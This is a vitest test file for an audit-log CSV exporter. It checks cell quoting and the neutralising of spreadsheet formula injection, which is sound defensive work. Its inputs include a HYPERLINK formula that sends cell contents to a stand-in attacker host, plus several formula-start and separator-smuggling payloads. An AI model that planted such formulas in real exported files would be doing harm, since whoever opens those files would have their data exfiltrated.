import { describe, expect, it } from 'vitest'
import { CSV_HEAD, toCsvCell, toCsvLine } from '../../src/audit-list/csv.ts'

const row = {
  audit_id: 'audit_1',
  at: '2026-11-14T12:00:00Z',
  site_id: 'shop.example' as never,
  actor: { type: 'api_key' as const, id: 'key_1' },
  action: 'user.revoke',
  target: 'did:service:ppid_12345678' as string | null,
  outcome: 'done' as const,
  reason: 'left, "for good"' as string | null,
  seq: 42,
  request_id: null,
}

describe('the audit as CSV', () => {
  it('quotes every cell, doubles quotes, and leaves out what is absent', () => {
    expect(CSV_HEAD).toBe(
      '"audit_id","at","site_id","actor_type","actor_id","action","target","outcome","reason","seq","request_id"\r\n',
    )
    expect(toCsvLine(row)).toBe(
      '"audit_1","2026-11-14T12:00:00Z","shop.example","api_key","key_1","user.revoke","did:service:ppid_12345678","done","left, ""for good""","42",\r\n',
    )
  })

  it.each([
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '  =1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '\t=1',
  ])('makes a formula text: %s', (reason) => {
    expect(toCsvCell(reason)).toMatch(/^"'/)
  })

  it.each(['x;=1+1', 'x,=1+1', 'x\t=1+1', 'x"=1+1', 'x";=1+1', 'x; ＝1+1', "x'=1+1", 'x|@SUM(A1)'])(
    'makes a formula text where another separator would begin a cell: %s',
    (reason) => {
      expect(toCsvCell(reason)).toMatch(/[;,\t"|']'\s?[=@＝]/)
      // No character of a separator is followed by a formula.
      expect(toCsvCell(reason)).not.toMatch(/[;,\t"|]\s*[=+\-@＝]/)
    },
  )

  it('leaves ordinary text as it is', () => {
    for (const text of ['left the company', 'a-b', '1+1', 'mail@example.com', 'did:key:z6Mk', 'ärger 🎉'])
      expect(toCsvCell(text)).toBe(`"${text}"`)
    expect(toCsvCell(null)).toBe('')
    expect(toCsvCell(42)).toBe('"42"')
  })
})
